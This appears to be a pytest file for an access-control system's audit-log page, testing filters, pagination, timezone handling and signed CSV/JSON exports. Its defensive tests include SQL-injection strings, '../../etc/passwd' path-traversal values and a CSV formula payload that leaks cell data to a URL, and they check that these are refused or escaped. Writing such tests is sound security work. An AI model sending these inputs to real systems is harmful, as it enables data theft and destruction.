"""Entry log page: filters, keyset pages, whitelisted parameters; CSV/JSON exports with anchor and formula escaping (T6.10, T6.12, T6.13, T6.20)."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from datetime import datetime, timedelta, timezone
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from werkzeug.datastructures import MultiDict

from controller.store import audit
from controller.store.db import session_factory
from webadmin.forms import FormError
from webadmin.forms.log import LogFilterForm

from web_support import events, get

KEY = bytes(range(32))
T0 = datetime(2026, 3, 2, 8, 0, tzinfo=timezone.utc)


def _seed(engine: Any, seal: bool = True) -> None:
    """A small log: grants and denials for two people, a door event, one admin event."""
    with session_factory(engine)() as db:
        for i in range(6):
            audit.record(db, "access.granted", method="pin", user="U0001", door="main", time=T0 + timedelta(hours=i))
        for i in range(3):
            audit.record(
                db, "access.denied", reason="outside_schedule", method="finger", user="U0002", door="main",
                score=71, time=T0 + timedelta(hours=i, minutes=30),
            )
        audit.record(db, "access.denied", reason="unknown_credential", method="pin", door="main", time=T0 + timedelta(days=1))
        audit.record(db, "door.opened", door="main", time=T0 + timedelta(days=1, minutes=1))
        audit.record(db, "admin.user_added", user="U0003", actor="alice", time=T0 + timedelta(days=2))
        if seal:
            audit.seal_pending(db, KEY)
        db.commit()


def _rows(page: str) -> list[str]:
    body = page.split("<tbody>", 1)[1].split("</tbody>", 1)[0] if "<tbody>" in page else ""
    return re.findall(r"<tr[^>]*>(.*?)</tr>", body, re.S)


def test_newest_first_and_all_kinds_shown_to_auditor(auditor: Any, engine: Any) -> None:
    _seed(engine)
    page = get(auditor, "/log").get_data(as_text=True)
    rows = _rows(page)
    assert len(rows) >= 12
    assert "admin.user_added" in rows[0]
    assert "U0001" in page and "outside_schedule" in page


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"user": "U0001"}, 6),
        ({"user": "u0002"}, 3),
        ({"result": "granted"}, 6),
        ({"result": "denied"}, 4),
        ({"reason": "outside_schedule"}, 3),
        ({"method": "finger"}, 3),
        ({"type": "door.opened"}, 1),
        ({"type": "admin.*"}, None),
        ({"since": "2026-03-02T10:00", "until": "2026-03-02T12:00"}, 3),
        ({"since": "2026-03-03"}, None),
        ({"result": "denied", "method": "pin"}, 1),
    ],
)
def test_filters(auditor: Any, engine: Any, query: dict[str, str], expected: int | None) -> None:
    _seed(engine)
    r = get(auditor, "/log", query_string=query)
    assert r.status_code == 200
    rows = _rows(r.get_data(as_text=True))
    if expected is not None:
        assert len(rows) == expected
    else:
        assert rows and all("admin." in row for row in rows if "door.opened" not in row and "access." not in row)


def test_time_range_uses_site_timezone(app: Any, auditor: Any, engine: Any) -> None:
    from dataclasses import replace

    state = app.extensions["kunci"]
    state.config = replace(state.config, site=replace(state.config.site, timezone="Asia/Jakarta"))
    _seed(engine)
    # 15:00-17:00 in Jakarta (UTC+7) is 08:00-10:00 UTC: two grants and two denials.
    rows = _rows(get(auditor, "/log", query_string={"since": "2026-03-02T15:00", "until": "2026-03-02T17:00"}).get_data(as_text=True))
    assert len(rows) == 4
    assert "2026-03-02 15:00:00" in get(auditor, "/log").get_data(as_text=True)


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ({"user": "' OR 1=1--"}, "Person code must look like U0042"),
        ({"reason": "1;DROP TABLE users"}, "Reason may only contain"),
        ({"type": "x' UNION SELECT"}, "Event type may only contain"),
        ({"result": "granted' --"}, "Result must be one of"),
        ({"order": "id desc;--"}, "Order must be one of"),
        ({"since": "yesterday"}, "From must be a date"),
        ({"since": "0001-01-01"}, "From must be between 1970-01-01 and 9999-12-30"),
        ({"until": "9999-12-31T23:59"}, "Until must be between 1970-01-01 and 9999-12-30"),
        ({"since": "2026-03-03", "until": "2026-03-02"}, "must be later"),
        ({"before": "1 OR 1=1"}, "whole number"),
        ({"sort": "id"}, "Unknown parameter"),
        ({"filename": "../../etc/passwd"}, "Unknown parameter"),
    ],
)
def test_bad_parameters_are_refused_clearly(auditor: Any, engine: Any, query: dict[str, str], message: str) -> None:
    _seed(engine)
    before = len(events(engine))
    r = get(auditor, "/log", query_string=query)
    assert r.status_code == 400
    assert message in r.get_data(as_text=True)
    assert len(events(engine)) == before


def test_keyset_pagination_both_orders(auditor: Any, engine: Any) -> None:
    with session_factory(engine)() as db:
        for i in range(120):
            audit.record(db, "door.opened", door="main", time=T0 + timedelta(minutes=i))
        db.commit()
    seen: list[str] = []
    url = "/log?type=door.opened"
    while url:
        page = get(auditor, url).get_data(as_text=True)
        seen += re.findall(r'<time datetime="([^"]+)"', page)
        m = re.search(r'href="([^"]+)" rel="next"', page)
        url = m.group(1).replace("&amp;", "&") if m else None
    assert len(seen) == 120 and seen == sorted(seen, reverse=True) and len(set(seen)) == 120
    page = get(auditor, "/log?type=door.opened&order=oldest").get_data(as_text=True)
    times = re.findall(r'<time datetime="([^"]+)"', page)
    assert times == sorted(times) and len(times) == 50
    nxt = re.search(r'href="([^"]+)" rel="next"', page).group(1).replace("&amp;", "&")
    assert "after=" in nxt
    more = re.findall(r'<time datetime="([^"]+)"', get(auditor, nxt).get_data(as_text=True))
    assert more[0] > times[-1]


def test_csv_export_has_anchor_codes_only_and_server_filename(auditor: Any, engine: Any) -> None:
    _seed(engine)
    r = get(auditor, "/log/export.csv", query_string={"user": "U0001"})
    assert r.status_code == 200 and r.is_streamed
    assert r.mimetype == "text/csv"
    disposition = r.headers["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="kunci-events-\d{8}T\d{6}Z\.csv"', disposition)
    text = r.get_data(as_text=True)
    reader = csv.DictReader(io.StringIO(text))
    with session_factory(engine)() as db:
        seq, mac = audit.head(db)
    columns = list(reader.fieldnames or ())
    assert columns[:-1] == ["seq", "time", "type", "reason", "method", "user", "door", "actor", "score", "detail"]
    assert columns[-1].startswith("kunci anchor seq=%d mac=%s exported_at=" % (seq, mac))
    assert columns[-1].endswith(" unsealed_left_out=0 filters user=U0001")
    rows = list(reader)
    assert len(rows) == 6 and {row["user"] for row in rows} == {"U0001"}
    assert [int(row["seq"]) for row in rows] == sorted(int(row["seq"]) for row in rows)
    exported = events(engine, "admin.log_exported")
    assert exported[-1].actor == "bob" and '"format":"csv"' in exported[-1].detail


@pytest.mark.parametrize("payload", ['=HYPERLINK("http://x?"&A1)', "+1", "-1", "@SUM(A1)", "\tcmd", "\rcmd"])
def test_csv_export_escapes_formula_cells(auditor: Any, engine: Any, payload: str) -> None:
    with session_factory(engine)() as db:
        audit.record(db, "access.denied", reason=payload, method=payload, actor=payload, door="main")
        db.commit()
    text = get(auditor, "/log/export.csv", query_string={"result": "denied"}).get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 2
    data = rows[1]
    for index in (3, 4, 7):  # reason, method, actor
        assert data[index] == "'" + payload
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_json_export_lines(auditor: Any, engine: Any) -> None:
    _seed(engine)
    r = get(auditor, "/log/export.json", query_string={"result": "denied"})
    assert r.status_code == 200 and r.is_streamed
    assert r.headers["Content-Disposition"].endswith('.jsonl"')
    lines = [json.loads(line) for line in r.get_data(as_text=True).splitlines()]
    with session_factory(engine)() as db:
        head = audit.head(db)
    assert lines[0]["anchor"] == {"seq": head[0], "mac": head[1]}
    assert lines[0]["filters"] == {"result": "denied"} and lines[0]["unsealed_left_out"] == 0
    assert len(lines) == 1 + 4 and all(line["type"] == "access.denied" for line in lines[1:])
    assert "name" not in lines[1] and "display_name" not in lines[1]


def test_an_export_is_logged_before_it_starts_and_its_anchor_covers_that_event(auditor: Any, engine: Any) -> None:
    _seed(engine)
    first = get(auditor, "/log/export.csv").get_data(as_text=True).splitlines()[0]
    exported = events(engine, "admin.log_exported")
    assert len(exported) == 1 and exported[0].actor == "bob" and exported[0].seq is not None
    assert f"anchor seq={exported[0].seq} " in first


def test_no_export_when_the_daemon_cannot_log_it(auditor: Any, daemon: Any) -> None:
    daemon.close()
    r = get(auditor, "/log/export.csv")
    assert r.status_code == 503 and "could not be logged; nothing was exported" in r.get_data(as_text=True)


@pytest.mark.parametrize(
    ("zone", "value"),
    [("Pacific/Kiritimati", "0001-01-01"), ("UTC", "0999-12-31T23:00"), ("Pacific/Pago_Pago", "9999-12-31T23:59")],
)
def test_dates_beyond_the_storable_range_are_a_form_error_in_any_site_zone(app: Any, zone: str, value: str) -> None:
    """Converting year 1 (or 9999) to UTC overflows ``datetime``; the refusal must be a FormError, not a 500."""
    with app.test_request_context(), pytest.raises(FormError, match="From must be between"):
        LogFilterForm(formdata=MultiDict({"since": value}), tz=ZoneInfo(zone)).checked()


@pytest.mark.parametrize(
    "query", [{"filename": "../../etc/passwd"}, {"path": "/etc/passwd"}, {"user": "../U0001"}, {"since": "0001-01-01"}]
)
def test_export_refuses_paths_and_bad_filters(auditor: Any, engine: Any, query: dict[str, str]) -> None:
    r = get(auditor, "/log/export.csv", query_string=query)
    assert r.status_code == 400
    assert "Content-Disposition" not in r.headers


def test_export_is_streamed_in_chunks(auditor: Any, engine: Any) -> None:
    with session_factory(engine)() as db:
        for i in range(1000):
            audit.record(db, "door.closed", door="main", time=T0 + timedelta(seconds=i))
        db.commit()
    r = get(auditor, "/log/export.csv", buffered=False)
    chunks = list(r.response)
    r.close()
    assert len(chunks) >= 5  # header, then one chunk per 200 rows
    assert sum(c.count(b"door.closed") if isinstance(c, bytes) else c.count("door.closed") for c in chunks) == 1000


def test_csv_export_leaves_out_an_unsealed_row_and_says_so(auditor: Any, engine: Any, data_dir: Any,
                                                            monkeypatch: Any) -> None:
    _seed(engine)
    # A row nobody sealed, written straight into the database. The daemon seals every pending row when it logs
    # the export, so here the export's own event is taken as logged without it: the row stays unsealed.
    with sqlite3.connect(data_dir / "kunci.db") as conn:
        conn.execute("INSERT INTO events (time, type, reason, method, door, actor) "
                     "VALUES ('2026-03-10T12:00:00.000000Z', 'access.denied', 'unsealed_row', 'pin', 'main', 'x')")
    monkeypatch.setattr("webadmin.daemon.record_event", lambda *args, **kwargs: True)
    for fmt in ("csv", "json"):
        text = get(auditor, f"/log/export.{fmt}").get_data(as_text=True)
        assert not text.startswith("#") and "unsealed_row" not in text
        if fmt == "json":
            assert json.loads(text.splitlines()[0])["unsealed_left_out"] == 1
            continue
        reader = csv.DictReader(io.StringIO(text))
        assert (reader.fieldnames or [])[:2] == ["seq", "time"]
        assert " unsealed_left_out=1" in (reader.fieldnames or [""])[-1]
        rows = list(reader)
        assert len(rows) == 15 and all(row["seq"] for row in rows)  # accounts, logins, the 12 seeded
